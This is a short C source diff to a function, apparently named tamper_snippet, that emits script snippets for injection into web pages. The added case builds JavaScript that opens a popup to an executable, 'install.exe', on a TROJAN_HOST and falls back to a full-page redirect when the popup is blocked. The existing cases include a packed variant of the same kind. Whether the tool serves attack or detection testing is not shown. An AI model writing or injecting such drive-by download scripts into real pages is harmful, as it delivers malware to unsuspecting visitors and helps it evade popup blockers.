@@ -267,6 +267,10 @@ const char *tamper_snippet(void)
 		buf_puts(&b, "<script type=\"text/javascript\">var u = \"http://" TROJAN_HOST "/install.exe\"; "
 			"window.open(u, \"_blank\", \"width=400,height=300\");</script>\n");
 		break;
+	case STYLE_CONST_URL:
+		buf_puts(&b, "<script>(() => { const u = 'http://" TROJAN_HOST "/install.exe'; "
+			"const w = window.open(u, '_blank', 'width=400,height=300'); if (!w) location.href = u; })();</script>\n");
+		break;
 	case STYLE_PACKED:
 		buf_puts(&b, "<script type=\"text/javascript\">");
 		pack_js(&b, POPUP);
